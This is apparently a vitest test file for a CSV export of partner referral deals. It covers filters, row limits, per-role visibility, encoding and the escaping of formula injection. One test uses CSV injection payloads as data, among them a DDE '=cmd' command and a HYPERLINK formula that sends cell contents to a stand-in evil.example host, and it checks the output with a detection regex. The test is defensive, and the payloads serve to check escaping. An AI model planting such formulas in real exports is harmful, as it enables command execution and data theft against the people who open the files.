import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { ListQuery } from '#contract/referrals.ts'
import { plainCell } from '#domain/spreadsheet.ts'
import { readDealFile } from '../../../test/deal-file.ts'
import { aDeal, insertShown } from '../../../test/deal-rows.ts'
import { type ListWorld, namesOf, openListWorld } from '../../../test/list-world.ts'
import type { Context } from '../context.ts'
import { Invalid } from '../refused.ts'
import { downloadReferrals } from './download.ts'
import { createDownloadTurns } from './download-turns.ts'

let world: ListWorld
const turns = createDownloadTurns()

beforeAll(async () => {
  world = await openListWorld()
})
afterAll(() => world.close())

type Query = Omit<ListQuery, 'cursor' | 'limit'>

const textOf = async (context: Context, query: Query = {}) => {
  const file = await downloadReferrals(context, query, turns)
  return { ...file, text: (await file.content.setEncoding('utf8').toArray()).join('') }
}
const dealsOf = async (context: Context, query: Query = {}) =>
  readDealFile((await textOf(context, query)).text)
const namesIn = async (context: Context, query: Query = {}) =>
  (await dealsOf(context, query)).map((deal) => deal.deal_name)

/** So many deals in one statement, the last one the newest. */
async function haveMany({ actor }: Context, count: number): Promise<void> {
  await world.write(
    `insert into referral (organization_id, id, engagement_id, party_role, originator_id, name, status, substatus, stage,
       stages, deal_type, accepted_at, created_at, updated_at)
     select $1, gen_random_uuid(), gen_random_uuid(), 'originator', $1, 'Deal ' || n, 'Active', 'Accepted', 20, '[]',
       'private', at, at, at
     from generate_series(1, $2::int) n, lateral (select '2026-05-01T09:00:00Z'::timestamptz + n * interval '1 minute' as at) t`,
    [actor.organizationId, count],
  )
}

describe('what the file holds', () => {
  test('BK-1: it is the list of the tab, the filters, the search and the order that were asked for', async () => {
    const context = await world.newPartner()
    const sent = { role: 'partner' as const, fromId: world.program.vendor }
    const made = await world.have(
      context,
      { name: 'Crane b', stage: 40 },
      { name: 'Crane a', stage: 40 },
      { name: 'Crane of another stage', stage: 60 },
      { name: 'A lift', stage: 40 },
      { name: 'Crane that was sent', stage: 40, ...sent },
    )
    await world.mark(context, made[3]?.id)
    const queries: Query[] = [
      { tab: 'outbound', stage: '40', search: 'crane', sort: 'name' },
      { tab: 'outbound', stage: '40', search: 'crane', sort: '-name' },
      { tab: 'inbound' },
      { tab: 'favorites' },
      {},
      { search: 'nothing like it' },
    ]
    for (const query of queries) expect(await namesIn(context, query)).toEqual(await namesOf(context, query))
    expect(await namesIn(context, queries[0])).toEqual(['Crane a', 'Crane b'])
    const { name, rows, more } = await textOf(context, queries[0])
    expect([name, rows, more]).toEqual(['deals-outbound-2026-11-21.csv', 2, false])
    await expect(textOf(context, { stage: '30' })).rejects.toBeInstanceOf(Invalid)
  })

  test('BK-1, LIM-23: it holds 5,000 deals at most, the first of the list, and says that there are more', async () => {
    const context = await world.newPartner()
    await haveMany(context, 5_002)
    const all = await textOf(context)
    const names = readDealFile(all.text).map((deal) => deal.deal_name)
    expect([all.rows, all.more, all.name]).toEqual([5_000, true, 'deals-all-2026-11-21-first-5000.csv'])
    expect(names).toEqual(Array.from({ length: 5_000 }, (_, n) => `Deal ${5_002 - n}`))
    const { more, rows } = await textOf(context, { createdTo: '2026-05-01' })
    expect([rows > 0, more]).toEqual([true, false])
  })

  test('BK-1: which deals it holds is of its beginning, what it tells of each is the newest, and what is gone is left out', async () => {
    const context = await world.newPartner()
    await haveMany(context, 1_200)
    const { content, rows } = await downloadReferrals(context, { sort: 'name' }, turns)
    const chunks = content.setEncoding('utf8')[Symbol.asyncIterator]()
    let text = (await chunks.next()).value as string
    const inOrganization = [context.actor.organizationId]
    await world.write(
      `update referral set name = 'A new name' where organization_id = $1 and name = 'Deal 999'`,
      inOrganization,
    )
    await world.write(`delete from referral where organization_id = $1 and name = 'Deal 998'`, inOrganization)
    await world.have(context, { name: 'Deal 9999' })
    for (let next = await chunks.next(); !next.done; next = await chunks.next()) text += next.value
    const names = readDealFile(text).map((deal) => deal.deal_name)
    expect([rows, names.length]).toEqual([1_200, 1_199])
    expect(names.at(-1)).toBe('A new name')
    expect(names).not.toContain('Deal 998')
    expect(names).not.toContain('Deal 9999')
  })
})

describe('whose file it is', () => {
  test('BK-1, VIS-1: two people who download the same tab get different rows, each his own', async () => {
    const context = await world.newPartner()
    const [here, there] = world.program.locations as [string, string]
    const team = [{ firstName: 'Bea', lastName: 'Blom', email: 'Bea@Birch.example' }]
    await world.have(
      context,
      { name: 'here', locationId: here },
      { name: 'there with Bea', locationId: there, team },
      { name: 'global with Bea', locationId: null, team },
    )
    const as = (role: 'referrals-admin' | 'referrals-user' | 'account-admin', locationId: string | null) =>
      world.person({
        ...context.actor,
        email: 'bea@birch.example',
        assignments: [{ role, locationId: locationId as never }],
      })
    const outbound = { tab: 'outbound', sort: 'name' } as const
    expect(await namesIn(context, outbound)).toEqual(['global with Bea', 'here', 'there with Bea'])
    expect(await namesIn(as('referrals-admin', here), outbound)).toEqual(['global with Bea', 'here'])
    expect(await namesIn(as('referrals-user', null), outbound)).toEqual(['global with Bea', 'there with Bea'])
    expect(await namesIn(as('account-admin', null), outbound)).toEqual([])
    expect(await namesIn(await world.newPartner(), outbound)).toEqual([])
  })

  test('BK-1, VIS-1: what a person may no longer see when its part is read is not in the file', async () => {
    const context = await world.newPartner()
    await haveMany(context, 600)
    const [deal] = await world.have(context, {
      name: 'Mine',
      createdAt: '2026-01-01T00:00:00Z',
      team: [{ firstName: 'Bea', lastName: 'Blom', email: 'bea@birch.example' }],
    })
    await world.write(
      `insert into team_member (organization_id, referral_id, position, first_name, last_name, email, phone)
       select organization_id, id, 0, 'Bea', 'Blom', 'bea@birch.example', '1' from referral
       where organization_id = $1 and id <> $2`,
      [context.actor.organizationId, deal?.id],
    )
    const bea = world.person({
      ...context.actor,
      email: 'bea@birch.example',
      assignments: [{ role: 'referrals-user', locationId: null }],
    })
    const { content, rows } = await downloadReferrals(bea, {}, turns)
    const chunks = content.setEncoding('utf8')[Symbol.asyncIterator]()
    let text = (await chunks.next()).value as string
    await world.write('delete from team_member where referral_id = $1', [deal?.id])
    for (let next = await chunks.next(); !next.done; next = await chunks.next()) text += next.value
    expect([rows, readDealFile(text).length]).toEqual([601, 600])
    expect(text).not.toContain('Mine')
  })

  test('BK-1, VIS-B2: the vendor gets what partners show it, to be read only and without anybody’s team', async () => {
    const { vendor, partner } = world.program
    const shown = aDeal(vendor, { name: 'Shown to the vendor', type: 'partner-led' })
    await insertShown(world.write, { ...shown, ownerId: partner, ownerName: 'Birch', listed: true })
    await insertShown(world.write, {
      ...aDeal(vendor, { name: 'Not listed' }),
      ownerId: partner,
      ownerName: 'Birch',
      listed: false,
    })
    const [deal, ...others] = await dealsOf(world.vendorAdmin, { search: 'shown to the vendor' })
    expect(others).toEqual([])
    expect(deal).toMatchObject({
      referral_id: shown.id,
      deal_name: 'Shown to the vendor',
      read_only: 'yes',
      direction: 'inbound',
      from: 'Birch',
      value: '1000',
      currency: 'USD',
      team_member_1: '',
      contact_name: '',
    })
    expect(await namesIn(world.vendorAdmin, { search: 'not listed' })).toEqual([])
    expect(await namesIn(world.person({}), { search: 'shown to the vendor' })).toEqual([])
  })
})

describe('how it is written', () => {
  test('BK-1, CS-F12: nothing that somebody has typed is a formula in the file, and numbers stay numbers', async () => {
    const context = await world.newPartner()
    const formulas = [
      "=cmd|'/C calc'!A0",
      '=HYPERLINK("https://evil.example?x="&A1,"Click")',
      '+1+1',
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1',
      '\r=1',
      ' =1+1',
      '＝1+1',
    ]
    await world.have(
      context,
      ...formulas.map((formula) => ({
        name: formula,
        customerName: formula,
        notes: formula,
        crmId: formula,
        team: [{ firstName: formula, lastName: formula, email: 'z@birch.example' }],
        value: { amount: '1234567.5000', currency: 'EUR', usd: '1' },
      })),
    )
    const deals = await dealsOf(context, { sort: 'created' })
    expect(deals).toHaveLength(formulas.length)
    for (const [place, deal] of deals.entries()) {
      const dangerous = Object.entries(deal).filter(([, cell]) => /^\s*[=+\-@＝＋－＠]|^[\t\r\n]/.test(cell))
      expect(dangerous).toEqual([])
      for (const key of ['deal_name', 'customer_name', 'notes', 'crm_id'])
        expect([key, plainCell(deal[key] ?? '')]).toEqual([key, formulas[place]])
      expect([deal.value, deal.sales_stage]).toEqual(['1234567.5', '20'])
    }
  })

  test('BK-1: a file begins with the mark by which Excel knows Korean and Russian, and every sign comes back', async () => {
    const context = await world.newPartner()
    const names = [
      '부산항 물류 시스템',
      'Портовые краны «Ёлка»',
      '碼頭起重機',
      'Zoë’s "big", deal',
      'two\r\nlines, one\nmore',
      '🏗️',
    ]
    await world.have(context, ...names.map((name) => ({ name, notes: `${name} ${name}` })))
    const file = await downloadReferrals(context, { sort: 'created' }, turns)
    const bytes = Buffer.concat((await file.content.toArray()) as Buffer[])
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const deals = readDealFile(bytes.toString('utf8'))
    expect(deals.map((deal) => deal.deal_name)).toEqual(names)
    expect(deals.map((deal) => deal.notes)).toEqual(names.map((name) => `${name} ${name}`))
  })

  test('BK-1: a list without deals is a file with the names of its columns alone', async () => {
    const { text, rows } = await textOf(await world.newPartner())
    expect([rows, text.split('\r\n').length]).toEqual([0, 2])
    expect(text).toMatch(/^\ufeffengagement_id,referral_id,deal_number,deal_name,/)
  })
})
